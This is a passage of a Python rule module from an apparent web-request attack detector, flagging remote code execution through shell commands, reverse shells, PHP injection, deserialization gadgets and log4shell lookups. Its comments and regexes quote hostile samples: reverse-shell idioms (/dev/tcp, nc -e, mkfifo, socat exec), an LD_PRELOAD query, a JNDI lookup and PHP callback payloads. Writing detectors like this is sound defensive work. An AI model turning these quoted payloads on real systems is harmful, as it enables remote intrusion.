"""Remote code execution: OS commands (shell grammar), and code injected into PHP, Java,
Node.js, Python and Perl interpreters, log4shell lookups, deserialization gadgets.

Shell obfuscation (`c'a't`, `c\\at`, `$@`, `${IFS}`, unset variables, globs) is folded before
the shell rules run. A command counts when it follows a separator, a substitution or starts
the value, and — for names that are also English words — when it carries arguments that look
like a shell's.
"""

from __future__ import annotations

import base64
import binascii
import re
from bisect import bisect_left
from collections.abc import Callable, Iterable, Iterator
from itertools import combinations, islice
from typing import Final

from node.decoders import changed_lines
from node.rules import (
    CLAUSE_CHARS,
    FENCED_BLOCK,
    HEAD_BREAK,
    IMPORT_AT_WORK,
    NAMED_IN_WORDS,
    NEAR_MIN,
    NOT_ON_AN_OBJECT,
    OS_RUNNING,
    PLAIN_WORD,
    PYTHON_SOURCE,
    UNSPACED,
    Match,
    Rule,
    RuleSet,
    View,
    blanked,
    calls,
    code_element_start,
    lines_around,
    minified,
    nonblank_before,
    search_box,
    searchable,
    several_lines,
    spaced,
    word_char,
    words,
)
from node.types import AttackType

TYPE: Final = AttackType.RCE
# A line that a shell reads on past its end (built once: compiled, a tuple literal is
# built again at every call that uses it).
_CONTINUED: Final = ("&&", "||", "|")


def _longest_first(names: str) -> str:
    r"""The alternatives of `names` with each before the shorter ones it may begin with, so
    that `\b` after a name does not end a longer one at its hyphen or dot: `apt` would
    take `apt-get install nmap` for itself and `-get install nmap` for its arguments."""
    return "|".join(sorted(names.split("|"), key=len, reverse=True))


def _by_first_letter(names: str) -> str:
    """The alternatives of `names`, in their order, grouped by their first letter:
    `c(?:url|at|…)`. `re` tries alternatives one by one, so a separator followed by no
    command's name tried all three hundred: 4 ms over 64 KB of `;/` and `;x`. It tries a
    few dozen letters now, then the names of one."""
    groups: dict[str, list[str]] = {}
    for name in names.split("|"):
        assert name[:1].isalnum() and name[1:2] not in ("?", "*", "+", "{"), name
        groups.setdefault(name[0], []).append(name[1:])
    return "|".join(f"{first}(?:{'|'.join(rests)})" for first, rests in groups.items())


# Command names that are not English words: a separator before them is enough.
_DISTINCT_NAMES: Final = _longest_first(
    r"whoami|uname|wget|curl|ifconfig|ipconfig|netcat|ncat|nc|bash|zsh|ksh|csh|tcsh|dash|"
    r"sh|powershell|pwsh|cmd|cmd\.exe|python[23]?(?:\.\d+)?|perl|ruby|php|node|nodejs|lua|"
    r"telnet|nslookup|netstat|traceroute|tracert|chmod|chown|chgrp|useradd|adduser|usermod|"
    r"passwd|crontab|nohup|socat|base64|xxd|systeminfo|tasklist|taskkill|certutil|bitsadmin|"
    r"mshta|rundll32|regsvr32|wmic|schtasks|regedit|reg|net1?|cscript|wscript|msiexec|"
    r"iwr|iex|irm|curl\.exe|wget\.exe|gcc|cc|c89|c99|awk|gawk|nawk|sed|xargs|env|printenv|"
    r"uptime|hostname|lsof|pkill|killall|sudo|doas|rm|mkfifo|mknod|tftp|ftp|ssh|scp|rsync|"
    r"dig|ping|getent|id|ls|dir|pwd|ps|cat|tac|nl|od|strings|rev|head|tail|more|less|"
    r"vi|vim|nano|ed|busybox|eval|exec|sleep|kill|who|w|last|echo|printf|set|unset|"
    r"export|alias|source|bcdboot|bcdedit|diskpart|vssadmin|fsutil|icacls|cacls|takeown|"
    r"sc|at|runas|shutdown|reboot|halt|find|grep|egrep|zcat|bzcat|xzcat|gunzip|unxz|"
    r"gzip|tar|zip|unzip|dd|tee|cp|mv|touch|mkdir|chattr|time|timeout|column|fold|flock|"
    r"base32|bridge|tr|cut|sort|uniq|wc|diff|expr|seq|yes|which|whereis|locate|top|htop|"
    r"df|du|free|mount|umount|ip|route|arp|host|history|jobs|logout|su|getfacl|gdb|strace|"
    r"ltrace|irb|rmt|nmap|openssl|aria2c|axel|lwp-download|lwp-request|lynx|w3m|links|"
    r"git|svn|docker|kubectl|make|java|javac|jjs|jrunscript|npm|npx|pip3?|gem|cpan|tclsh|"
    r"wish|expect|screen|tmux|script|busybox|ash|mksh|rbash|fish|7z|rar|unrar|cpio|nice|"
    r"setsid|stdbuf|watch|xterm|ssh-keygen|sshpass|shred|wall|finger|chsh|visudo|ansible|"
    r"chef|cscli|pkexec|systemctl|service|journalctl|dmesg|modprobe|insmod|iptables|"
    r"tcpdump|xdg-open|open|start|rev|base32|basenc|uuencode|openvpn|nping|hping3|fping|"
    r"mail|mailx|sendmail|readelf|objdump|hexdump|split|csplit|install|ln|mkdir|rmdir|"
    r"chroot|unshare|nsenter|capsh|env|ld\.so|ldconfig|valgrind|cobc|g\+\+|clang|tcc|"
    r"go|rustc|cargo|php-cgi|psql|mysql|sqlite3|mongo|redis-cli|crash|vipe|pager|ex|"
    r"cpulimit|perf|bsdtar|aptitude|apt|apt-get|yum|dnf|rpm|dpkg|pacman|snap|pkg|brew|"
    r"rc|ll|iwmi|cmstp|msbuild|installutil|regasm|forfiles|pcalua|scriptrunner|"
    r"ssh-copy-id|cd|trap|lastlog|comm|zstdcat|zstd|zless|zmore|zgrep|bzless|lz4cat|findstr|"
    r"type|ver|date|"
    # Commands that run the one after them, as GTFOBins lists them: ;ionice /bin/sh
    r"ionice|taskset|chrt|rlwrap|setarch|pidstat|run-parts|busctl|logsave|systemd-run|"
    # Windows' own tools that fetch, run or tell (LOLBAS): & esentutl /y \\evil\x.exe
    r"esentutl|expand|replace|hh|odbcconf|diskshadow|dnscmd|wevtutil|cmdkey|netsh|nltest|"
    r"klist|fodhelper|attrib|gpresult|certreq|copy|xcopy|robocopy|"
    # Configuration-management and hardening tools, whose commands are hyphenated
    # (AppArmor's by name: `aa-ET` is a language tag, Afar in Ethiopia).
    r"ansible-\w+|chef-\w+|knife|rmt-\w+|lastlogin|aa-exec|aa-status|aa-enabled|aa-enforce|"
    r"aa-complain|aa-disable|aa-audit|aa-autodep|aa-genprof|aa-logprof|aa-cleanprof|"
    r"aa-mergeprof|aa-unconfined|aa-remove-unknown|aa-teardown|aa-notify|aa-decode|"
    r"aa-easyprof|aa-features-abi|aa-load"
)
_DISTINCT: Final = _by_first_letter(_DISTINCT_NAMES)
# Of those, the ones that are everyday words, or code's (`pkg`, a package in every npm
# module: `deps && pkg && pkg.bundleDependencies`), need shell-looking arguments after them.
# So do the editors that are words ("Hulskes & VI", "vim", "nano"): alone, no terminal.
_WORDLIKE: Final = frozenset(
    words(
        "id ls dir ps cat nl od more less head tail ed sort cut tr find set at sc time "
        "w who last echo printf kill sleep top host free column fold bridge yes which "
        "history jobs source alias export touch route ip expr seq wc diff uniq tee dd "
        "cp mv rm su mount ping dig env reg net eval exec strings rev tac sed awk lua "
        "node php ruby perl cc timeout locate flock mail cd trap comm open start install "
        "split watch script service crash pager screen expect wish halt reboot wall finger "
        "nice apt snap type ver date expand replace copy pkg vi vim nano"
    )
)
# A redirect or a pipe, but not to an amount: "sale & more > 3 items" compares; nor to a
# name that a bracket, a conditional's `?` or `:`, or logic follows (`_OPERAND`): code
# compares (`if (ok && time > deadline)`, `lo <= date && date <= hi`, `a && date || b)`).
# (A directory of one dot, then an option: `find . -exec id \;`.)
_OPERAND: Final = r"\s*[\w.]+\s*(?:[)\]?:]|&&|\|\|)"
_ARGS: Final = (
    r"\s+(?:-{1,2}[a-z]|/(?:[\w.?*\[-]|[;&|\s]|$)|\$|\|(?!\s*\$?\d|\|" + _OPERAND + r")"
    r"|[<>](?!\s*\$?\d|=|" + _OPERAND + r")|'|\"|~|\.{1,2}/|[a-z]:\\|\{|%[a-z]|\\"
    r"|\.(?=[ \t]+-{1,2}[a-z])"
    r"|(?:if|of|bs|count|skip)=|\d{1,3}(?:\.\d{1,3}){3}\b|[\w.,-]+\$\(\()"
)
# A separator, or a substitution's opening (`_substitution`): `${` opens a command only
# before a blank or a pipe (bash 5.3's and ksh's `${ id; }`, `${|id;}`); `${id}` expands a
# variable, and `${id !== undefined ? id : '-'}` (a JavaScript template's) is a bad
# substitution. (Its first character a class, what follows it told by looking back at it:
# `re` skips to the characters a separator starts with. Alternatives, one a group, had it
# try each at every character, 2.4 ms a 64 KB page of code.)
_SEP: Final = r"[;\n\r|&$<>`](?:(?<=[;\n\r|`])|(?<=&)&?|(?<=[$<>])\(|(?<=\$)\{(?=[ \t|]))"
# Commands that run the command after them: `time curl …`, `nohup sh …`.
_WRAPPER: Final = (
    r"(?:(?:time|nohup|strace|ltrace|sudo|doas|env|nice|exec|xargs|watch|stdbuf|setsid|"
    r"busybox|unbuffer|timeout\s+\d+\w?|cpulimit(?:\s+-\w+\s+\S+)*)\s+)*"
)
_PATH_PREFIX: Final = r"(?:(?:/usr)?(?:/local)?/s?bin/)?"
# A command's name as a command line starts with it, its directory or none before it.
_COMMAND_NAME: Final = _PATH_PREFIX + r"(?:" + _DISTINCT + r")"

# Names that are a probe on their own; any other name alone is just a word ("mail", "axel").
_RECON: Final = frozenset(words("whoami ifconfig ipconfig systeminfo netstat"))
# A path with a shell wildcard that opens or closes a segment holds one of these.
_GLOB_TOKENS: Final = words("/? ?/ */ /* ?? ** ?. *. .? .* [")
# The sensitive files a wildcard path may stand for (`_GLOB_TARGETS`), by directory.
_GLOB_FILES: Final = {
    "/etc/": ("passwd", "shadow", "group", "hosts", "issue"),
    "/proc/self/": ("environ",),
}


def _inner_wildcards(name: str) -> Iterator[str]:
    """The ways to write `name` with wildcards inside it, its first and last letters kept:
    b?n, b*n, p?o*c (those at its ends are `_GLOB_TOKENS`' own)."""
    if len(name) < 3:
        return
    middle = name[1:-1]
    for mask in range(1, 3 ** len(middle)):
        written, digits = [], mask
        for letter in middle:
            digits, choice = divmod(digits, 3)
            written.append((letter, "?", "*")[choice])
        form = "".join(written)
        if "**" not in form:
            yield name[0] + form + name[-1]


# ...and one inside a segment, a directory's of a sensitive file (`/b?n/c?t`, `/e*c/`) or
# the file's after its directory (`/etc/pa?swd`); `/bin/` and `/usr/` route a value anyway.
_TARGET_GLOB_TOKENS: Final = (
    *(
        f"/{form}/"
        for directory in ("bin", "usr", "etc", "proc", "self")
        for form in _inner_wildcards(directory)
    ),
    *(
        directory + name[:length] + wildcard
        for directory, names in _GLOB_FILES.items()
        for name in names
        for length in range(1, len(name))
        for wildcard in "?*"
    ),
)
# What routes a value here besides the rules' own tokens: shell quoting and expansion that
# hide a command name, wildcards, and the places commands live.
_SYNTAX_TOKENS: Final = (
    "'",
    '"',
    "\\",
    "$",
    "``",
    "<(",
    ">(",
    "/bin/",
    "/usr/",
    "~",
    "^",  # cmd's escape in a word: `w^h^o^a^m^i`
    "-c ",  # a shell's arguments: `-c id`
    # A subshell a separator opens, whose name no token glues to it: `;(id)`, `| (ls)`.
    *(separator + "(" for separator in (";", "|", "&", "\n", "; ", "| ", "& ")),
    *_GLOB_TOKENS,
    *_TARGET_GLOB_TOKENS,
)
# Command names route a value here too. Names that are also words ("at", "id", "time")
# only count after a separator or with an option, a path or a redirect after them.
_SEPARATORS: Final = (";", "|", "`", "&", "$(", "\n", "\n ", "; ", "| ", "& ", "&& ", "|| ", "$( ")
# A pickled Python object, which runs what it names when it is loaded (Python's own
# documentation: never unpickle untrusted data). In base64: protocol 4 and 5 frames (gASV,
# gAWV); protocols 2 and 3 opening with a global (gAJj, gANj), the callable a REDUCE
# calls; protocol 0 naming os, posix, nt, subprocess, commands or the builtins. Looked for in the
# value's own case: lower-cased, `gasv` begins a word (gasVolume).
_PICKLE: Final = searchable(
    re.compile(
        r"(?<![\w+/-])(?:gA[SW]V|gA[JN]j|Y(?:29zCn|3Bvc2l4Cn|250Cn|3N1YnByb2Nlc3MK"
        r"|2NvbW1hbmRzCn|19fYnVpbHRpbl9fCn|2J1aWx0aW5zCn))[\w+/-]{8}"
    )
)
_PICKLE_TOKENS: Final = frozenset(
    words(
        "gasv gawv gajj ganj y29zcn y3bvc2l4cn y250cn y3n1ynbyb2nlc3mk y19fynvpbhrpbl9fcn "
        "y2nvbw1hbmrzcn y2j1awx0aw5zcn"
    )
)
# Ruby's Marshal in base64: its header, 04 08, is `BAh`. Read byte for byte (Latin-1) by
# `_marshal_gadget` alone, whose binary other rules would read as text.
_MARSHAL: Final = searchable(re.compile(r"(?<![\w+/-])BAh[\w+/-]{8,}"))
_MARSHAL_TOKENS: Final = frozenset(("bah",))
# In it, an object, a class or a user type (`o:`, `c`, `U:`, then the name's length) of a
# class the universal Rails gadgets chain: RubyGems' (not a Gem::Version an application
# keeps), Net::WriteAdapter, ERB.
_MARSHAL_GADGET: Final = re.compile(
    r"[ocu]:?[\x06-\x7f](?:gem::(?:requirement|dependencylist|specfetcher|installer|requestset"
    r"|package::tarreader|source::specificfile|stubspecification|resolver|commandmanager)\b"
    r"|net::(?:writeadapter|bufferedio)\b"
    r"|activesupport::deprecation::deprecatedinstancevariableproxy)|o:\x08erb\b"
)
# ASP.NET's ViewState (LosFormatter) holding an object BinaryFormatter wrote (`/wEy`, its
# 0xFF 0x01 0x32): ysoserial.net's ViewState payloads. Read byte for byte by
# `_view_state_gadget`, for a class a gadget chain is built of.
_VIEW_STATE: Final = searchable(re.compile(r"(?<![\w+/-])/wEy[\w+/]{16,}={0,2}"))
_VIEW_STATE_TOKENS: Final = frozenset(("/wey",))
_BINARY_FORMATTER: Final = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff"
_DOTNET_GADGET: Final = re.compile(
    r"delegateserializationholder|microsoft\.powershell\.editor|textformattingrunproperties"
    r"|system\.management\.automation|activitysurrogateselector|system\.workflow\."
    r"|windowsidentity|claimsidentity|sessionsecuritytoken|objectdataprovider|axhost\+state"
    r"|toolboxitemcontainer|roleprincipal"
)
# jsonpickle's tags that name what `decode` imports and calls (`{"py/reduce": [{"py/type":
# "subprocess.Popen"}, …]}`), and the callables that run commands or code.
# (Named as a point names them, `/` made `_`.)
_PICKLED_TAGS: Final = (".py_object", ".py_type", ".py_function", ".py_reduce", ".py_newobj")
_PICKLED_NAME: Final = re.compile(
    r"\s*(?:(?:os|posix|nt)\.(?:system|popen|exec\w*|spawn\w*)|subprocess\.\w"
    r"|(?:builtins|__builtin__)\.(?:eval|exec|compile|__import__)|pty\.spawn|commands\.\w"
    r"|importlib\.import_module|runpy\.\w|ctypes\.\w)"
)
_PICKLED_TOKENS: Final = words(
    "os.system os.popen os.exec os.spawn posix. nt.system nt.popen subprocess. builtins. "
    "__builtin__. pty.spawn commands. importlib.import_module runpy. ctypes."
)
# A separator then a tab, which a shell reads as a space (`;%09ls%09-la`, `%0a%09id`):
# command names are spelled after separators and spaces only.
_TAB_SEPARATORS: Final = (";\t", "|\t", "&\t", "`\t", "$(\t", "\n\t")
# A separator then two blanks or more (`;  sleep  5`): no name is spelled right after it,
# but the shell grammar (`_COMMAND`) reads past any number of blanks.
_SPACED_SEPARATORS: Final = (";  ", "|  ", "&  ", "$(  ")
TOKENS: Final = (
    *_SYNTAX_TOKENS,
    *_RECON,
    *_PICKLE_TOKENS,
    *_MARSHAL_TOKENS,
    *_VIEW_STATE_TOKENS,
    *_PICKLED_TOKENS,
    *_TAB_SEPARATORS,
    *_SPACED_SEPARATORS,
    *(
        token
        for name in _DISTINCT_NAMES.replace("\\w+", "").replace("\\", "").split("|")
        for token in (
            # A family of hyphenated commands (ansible-playbook): the stem is distinct.
            (name,)
            if name.endswith("-")
            else (f"{name} -", f"{name} /", f"{name} >", *(sep + name for sep in _SEPARATORS))
            if name in _WORDLIKE or len(name) <= 3
            else (f"{name} ", f"{name}\t", f"/{name}", *(sep + name for sep in _SEPARATORS))
        )
    ),
)

# Java names in a stack trace or an exception message are a crash report, not a payload:
# `at java.lang.reflect.Method.invoke(Method.java:568)`, `java.io.FileNotFoundException`,
# a constructor's frame (`java.net.URL.<init>(URL.java:681)`).
_FRAME_CALL: Final = r"(?:\.<(?:cl)?init>)?\((?:[\w$]+\.java:\d+|native method|unknown source)\)"
_NOT_A_FRAME: Final = r"(?![\w$.]*" + _FRAME_CALL + r"|\.java:\d+\))"
_NOT_A_THROWABLE: Final = r"(?![\w$.]*(?:exception|error)\b)"
# Before a package's name: not one a JVM's option sets a system property of
# (`JAVA_OPTS=-Dcom.sun.management.jmxremote -Djava.io.tmpdir=/tmp`, a deployment's).
_NOT_A_PROPERTY: Final = r"(?<!-d)"
# JavaServer Faces' own request parameters, which every form of a JSF application posts
# (`javax.faces.ViewState`, `javax.faces.partial.ajax`, `javax.faces.source`), and the
# Portlet API's (`javax.portlet.action`, which Liferay's and WebSphere's portals pass).
_NOT_A_FACES_PARAMETER: Final = (
    r"(?!faces\.(?:viewstate|partial\.\w+|source|behavior\.event|clientwindow"
    r"|renderkitid|resource)\b|portlet\.\w+\b(?!\.))"
)
# Not a method of the same name as a language's construct: lua.eval('…'), pattern.exec(…),
# $db->exec(…), Expr::eval(…) (`NOT_ON_AN_OBJECT`, and PHP's and C++'s own operators).
_NOT_A_METHOD: Final = NOT_ON_AN_OBJECT + r"(?<!->)(?<!::)"
# Nor a function of that name being defined: Python's `def putenv(`, JavaScript's
# `function eval(`, C's `static void eval(`; after its parentheses, a method's block
# (a class's `async exec (args) {`), which no call in PHP is followed by.
_NOT_A_DEFINITION: Final = r"(?<!def )(?<!function )(?<!void )"
_NOT_A_BLOCK: Final = r"(?![^()\n]{0,200}\)[ \t]*\{)"
# The functions that run or evaluate what they are given and that a string can name (not
# `eval`, a construct of the language).
_NAMED_RUNNING_CALLS: Final = (
    "system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|create_function"
)
# The functions a payload has PHP call by their names (handed over as callbacks), and
# the calls that decode one's name.
_CALLBACKS: Final = (
    _NAMED_RUNNING_CALLS + "|phpinfo|file_put_contents|fwrite|include|require|unlink"
)
_DECODING_CALLS: Final = "base64_decode|str_rot13|hex2bin|strrev|gzinflate|chr|implode"
# The calls that run or evaluate what they are given, and the request's own values: what
# a web shell hands the one to the other (`R_WEB_SHELL`, `_request_run`).
_RUNNING_CALLS: Final = _NAMED_RUNNING_CALLS + "|eval"
_REQUEST_VALUE: Final = r"\$_(?:get|post|request|cookie|server|files)\b"
# A regular expression between a delimiter and the same, as PHP's are written (no group,
# whose number would cost the rule its search by literals).
_DELIMITED: Final = "|".join(
    rf"{re.escape(d)}(?:[^{re.escape(d)}'\"\\\n]|\\.){{0,300}}{re.escape(d)}" for d in "/#~@!|%+"
)
# What the service control manager is told to do to a service: set one up, given its
# settings (`sc create x binpath= …`), or act on one, given its name (`sc stop x`).
_SC_SETTING: Final = ("create", "config")
_SC_ACTING: Final = ("delete", "stop", "start", "qc", "sdset", "failure")

# The verbs PowerShell's cmdlets that payloads run start with (Get-Process, Invoke-Item).
_PS_VERBS: Final = words(
    "get set invoke start stop restart new remove out write import export test add copy move "
    "select format convertto convertfrom"
)
_PS_VERB: Final = "(?:" + "|".join(_PS_VERBS) + ")"
# What a program's name is the subject of in a sentence: what it said or did.
_TOLD: Final = (
    r"(?:said|says|showed|shows?|returned|returns?|gave|gives|threw|throws?|complained"
    r"|complains|reported|reports|printed|prints|failed|fails|hangs|hung|crashed|crashes"
    r"|is|was|keeps|kept)\b"
)

# JSONata's functions, which AWS Step Functions, CloudFormation's schemas and Node-RED
# call as `$uppercase(…)`: no PHP variable a payload names ($eval, which evaluates an
# expression, is not among them).
_JSONATA_CALL: Final = (
    r"(?:lowercase|uppercase|substring(?:before|after)?|split|join|replace|merge|string"
    r"|number|contains|length|trim|pad|sum|count|max|min|average|keys|lookup|exists|map"
    r"|filter|reduce|sort|reverse|distinct|append|formatnumber|formatinteger|now|millis"
    r"|frommillis|tomillis|parseinteger|round|floor|ceil|abs|boolean|type|partition"
    r"|hash|uuid|random|match|power|sqrt|formatbase|base64(?:en|de)code|zip|shuffle"
    r"|(?:en|de)codeurl(?:component)?|spread|sift|each|single|not|error|assert)\s*\("
)
# Grafana's macros in a SQL panel's query, which every refresh of the panel sends:
# `$__timeFilter(created_at)`, `$__timeGroupAlias(ts, '5m')`, `$__unixEpochFilter(t)`.
_GRAFANA_MACRO: Final = (
    r"__(?:time(?:epoch|filter|from|to|group(?:alias)?)?"
    r"|unixepoch(?:nano)?(?:filter|from|to|group(?:alias)?))\s*\("
)
# i18next's nesting of one translation in another, by its key in a namespace or a path:
# `$t(common:save)`, `$t(errors.required, {"field": "name"})`.
_I18NEXT_NESTING: Final = r"t\((?=[\w-]{1,40}[:.][\w.:-]{0,80}\s*[,)])"
# A formula in TeX's math, `$f(x) = x^2$`, `$H(s) = \frac{Y(s)}{X(s)}$`, `$$p(A)$$`
# (Markdown, a notebook's cell, a docstring): closed on its line by a `$` that no name,
# brace or parenthesis follows. PHP fails to parse such a `$`, and so runs nothing of the
# code around it, unless something ends the code before it: a `;`, a comment, `?>`, a
# string or a here-document.
_TEX_MATH: Final = r"(?:[^$\n;'\"`#/?<]|/(?![/*])|\?(?!>)|<(?!<<)){1,200}\$+(?![\w{$(])"
# vue-i18n's translation of a key in quotes, in a template or a component's script: a key
# of a path (`$t("nav.home")`, `$tc('cart.items', n)`), or one given its values (`$t('welcome',
# { name })`). `$t('id')` alone is a variable function's call still.
_VUE_I18N_CALL: Final = (
    r"t[ce]?\(\s*(?:'[\w-]{1,40}(?:[:.][\w.:-]{1,80}'\s*[,)]|'\s*,\s*\{)"
    r"|\"[\w-]{1,40}(?:[:.][\w.:-]{1,80}\"\s*[,)]|\"\s*,\s*\{))"
)
# A tag with an attribute set, where a here-string's word would be (`<<<a class="struct"`;
# its quotes may have been read away as a shell's).
_NOT_A_TAG: Final = r"(?![a-z][\w-]*\s+[a-z][\w-]*=)"
# What reads a here-string's word as code or data to run: shells, interpreters, filters.
# Each is looked behind from the `<<<`, matched first so that the look is taken only
# there, in a group of names of one length and one to three blanks (a lookbehind has one
# width).
_HERE_STRING_READERS: Final = (
    *("sh", "bash", "zsh", "dash", "ksh", "csh", "tcsh", "fish", "ash", "busybox"),
    *("python", "python2", "python3", "perl", "php", "ruby", "irb", "node", "lua", "tclsh"),
    *("cat", "base64", "xxd", "xargs", "tr", "sed", "awk", "tee", "nc", "ncat", "socat"),
    *("openssl", "gcc", "cc", "bc", "dc", "sqlite3", "mysql", "psql", "eval", "source", "exec"),
)
_AFTER_A_READER: Final = "|".join(
    rf"<<<(?!<)(?<=\b(?:{'|'.join(names)}){blanks}<<<)"
    for names in (
        [name for name in _HERE_STRING_READERS if len(name) == size]
        for size in sorted({len(name) for name in _HERE_STRING_READERS})
    )
    for blanks in (r"\s", r"\s\s", r"\s\s\s")
)
# Not C's preprocessor, which may space its `#` from the directive: `#  if X == 64`,
# `# if defined __USE_GNU`. Batch has no `#`.
_NOT_DIRECTIVE: Final = r"(?<!#)(?<!#[ \t])(?<!#[ \t]{2})(?<!#[ \t]{3})"
# What batch files compare: a word, or text in quotes or brackets ("%1", (AA), [%1]).
_BATCH_OPERAND: Final = r'(?:"[^"\n]{0,40}"|\([^()\n]{0,40}\)|\[[^\]\n]{0,40}\]|[^\s(){}:"]{1,40})'

# $IFS, the shell's field separator, spelled as a space: ${IFS}, or with a modifier that
# keeps a blank of it (${IFS%??}, ${IFS:0:1}).
_IFS: Final = r"\$(?:\{ifs(?:[%#:/^,][^}\s]{0,12})?\}|ifs\b)"
_IFS_SPACE: Final = re.compile(_IFS)
# Node.js's modules of files and sockets, quoted as require() takes them.
_IO_MODULE: Final = r"['\"`](?:node:)?(?:fs|fs/promises|net|http|https|http2|dgram)['\"`]"

# A logger's level after its name, as a configuration sets one.
_NOT_A_LEVEL: Final = (
    r"(?![\w.$]*\s*[=:]\s*(?:trace|debug|info|warn|warning|error|fatal|off|all|severe|fine"
    r"|finer|finest|config)\b)"
)

# Environment variables that make a program load code or configuration from a path: no
# form names a field so, and a CGI server hands a query's parameters over as the
# environment (Juniper's J-Web, CVE-2023-36845: ?PHPRC=/dev/fd/0; GoAhead's
# CVE-2017-17562: ?LD_PRELOAD=/proc/self/fd/0).
_LOADING_VARIABLES: Final = words(
    "phprc php_ini_scan_dir ld_preload ld_audit bash_env perl5opt gconv_path"
)


# JNDI's lookup of a directory or a URL, what only an exploit writes (and an advisory's
# example): `${jndi:ldap://…}`; `${:1337:-x$}{jndi:…}`, a lookup may yield its `$`.
_JNDI_NAMED: Final = r"\{\s*jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:"
RULES: Final = (
    R_SEPARATOR := Rule(3001, TYPE, "an OS command after a shell separator or substitution"),
    R_LEADING := Rule(3002, TYPE, "a value that starts with an OS command and its arguments"),
    R_GLOB := Rule(3018, TYPE, "a wildcard path that expands to a sensitive file: /e??/p*wd"),
    R_ARGUMENTS := Rule(
        3035,
        TYPE,
        "a query's name that is a command line's long option, ?--templatesPath=ftp://…: PHP's "
        "register_argc_argv makes the query a script's arguments (Craft CMS's CVE-2024-56145)",
        tokens=("--",),
    ),
    R_ENVIRONMENT := Rule(
        3039,
        TYPE,
        "a query's name that is an environment variable making a program load code, "
        "?PHPRC=/dev/fd/0, ?LD_PRELOAD=/proc/self/fd/0: a CGI server hands the query over as "
        "the environment (Juniper's CVE-2023-36845)",
        tokens=_LOADING_VARIABLES,
    ),
    R_REVERSE := Rule(
        3003,
        TYPE,
        "a reverse shell or network pipe: /dev/tcp, gawk's /inet/tcp, nc -e, mkfifo, socat "
        "exec, a shell started and its streams given to a socket",
        re.compile(
            # bash's /dev/tcp/host/port, and gawk's /inet/tcp/0/host/port
            r"/dev/(?:tcp|udp)/|/inet[46]?/(?:tcp|udp)/\d+/[^/\s]+/\d+"
            r"|\bn(?:c|cat|etcat)\b[^|;&\n]{0,40}\s-[a-z]*[ec]\b"
            # mkfifo making a pipe: a path, or a name the command line goes on with (`rm f;
            # mkfifo f;cat f|sh -i|nc …`); not the command named ("mkfifo creates FIFOs").
            r"|\bmkfifo\s+(?:-[a-z-]+(?:[ =]\S+)?\s+)*(?:[/~.$]|[\w-]+\s*(?:[;&|)]|$))"
            r"|\bsocat\b[^\n]{0,60}\bexec:|\bbash\s+-i\b[^\n]{0,20}>&"
            # A pipe into a shell; not a pattern's alternative, the last or another, before
            # its group's quantifier or its end: `\.(htaccess|ini|sh)$`, `(x|ch|ss|sh)?`,
            # `^(sh|bash|zsh)$`, `\.(exe|cmd|sh|ps1)$` (a shell's syntax errors).
            # Nor the idiom named, a fetcher given nothing piped in ("a curl|bash test
            # script", "never curl | sh"): it fetches nothing for a shell to run.
            r"|\|(?<!(?<![^\s;&(])curl\|)(?<!(?<![^\s;&(])wget\|)"
            r"(?<!(?<![^\s;&(])curl \|)(?<!(?<![^\s;&(])wget \|)"
            r"\s*(?:/bin/)?(?:ba|z|k|c|da)?sh\b"
            r"(?!(?:\|[\w.-]{1,20}){0,20}\)(?:[?*+]|\$(?:[\"'\s/]|$)))"
        ),
        (
            *words("/dev/ /inet ncat netcat mkfifo socat bash"),
            *(
                "nc ",
                "nc\t",
                *(
                    f"|{s}{sh}"
                    for s in ("", " ")
                    for sh in ("sh", "bash", "/bin", "zsh", "ksh", "csh", "dash")
                ),
            ),
        ),
    ),
    Rule(
        3004,
        TYPE,
        "shellshock: a function definition at the start of a value",
        re.compile(r"^\s*\(\s*\)\s*\{"),
        ("()", "( )"),
    ),
    R_PHP := Rule(
        3005,
        TYPE,
        "PHP code: tags, dangerous functions, superglobals, callables handed over",
        re.compile(
            # A short tag, not Java's wildcard type: Class<?>, Predicate<? super T>; the long
            # one before a blank, as PHP reads it (`<?php=x` opens nothing). Nor the tag
            # opening a file of lines, a program shown whole (an injection is a line of code;
            # what a file runs is read by the rest of the rule and by 3033). The short tag
            # before code: a statement's word, a call, a variable, a string, a statement's
            # end or the closing tag on its line; not words ("<? should not trigger", a
            # parse error to PHP).
            r"<\?(?:php(?=\s)(?![ \t]*\r?\n[^\n]*\n[^\n]*\n)|="
            r"|\s(?!\s*(?:super|extends)\b)(?=\s*(?:echo|print|include|require|eval|exit|die"
            r"|system|passthru|exec|shell_exec|assert|phpinfo)\b|[^\n]{0,200}?(?:[($;'\"`]|\?>))"
            # An XML declaration that declares nothing, PHP's short tag in a polyglot:
            # `<?xml :echo 1;` (`<?xml version="1.0"?>`, `<?xml-stylesheet …?>` are XML's,
            # and `<?xml...>` one left out, which PHP cannot parse: `...` spreads nothing).
            r"|xml(?![\w-])\s*(?!version\b|encoding\b|standalone\b|\?>|\.\.\.|\u2026|>)\S)"
            r"|\[/?\\?php\]"
            # PHP calls its functions bare: os.popen( and _os.getenv( are Python's methods,
            # and one awaited JavaScript's (`await readFile(new URL('./x', import.meta.url))`).
            # Those that take arguments, not called with none before a word, nor with `=`:
            # "failed to symlink() the file", "could not symlink (= '%s')" name one (and
            # called so, PHP throws); the others report with none (`phpinfo()`).
            rf"|{_NOT_A_METHOD}{_NOT_A_DEFINITION}(?<!await )\b(?:(?:base64_decode|gzinflate"
            r"|gzuncompress|gzdecode|str_rot13|shell_exec|passthru|proc_open|pcntl_exec"
            r"|create_function|fsockopen|pfsockopen|file_put_contents|"
            r"file_get_contents|move_uploaded_file|ini_set|"
            r"bzdecompress|"
            r"readfile|show_source|highlight_file|"
            r"unserialize|symlink|chroot|"
            r"error_log|escapeshellcmd|escapeshellarg)\s*\((?!\s*=|\s*\)[ \t]*[^\W\d_])"
            # PHP's POSIX functions (posix_kill, posix_setuid, posix_getpwnam…): not C's
            # that PHP lacks, a changelog's posix_memalign() or posix_spawn().
            r"|(?:phpinfo|ini_get_all|get_defined_vars|posix_(?:get\w+|set\w+|kill|mkfifo|mknod"
            r"|uname|times|ttyname|ctermid|isatty|access|eaccess|initgroups|errno|strerror"
            r"|sysconf|f?pathconf))\s*\()"
            rf"(?![1-8][a-z]?\)){_NOT_A_BLOCK}"
            # A callback named by a string: PHP calls the function a string names
            # (`array_map('system', ['id'])`, `usort($a, 'sys'.'tem')`), or one a call
            # decodes. A closure, a variable or a function of text sorts, maps and filters:
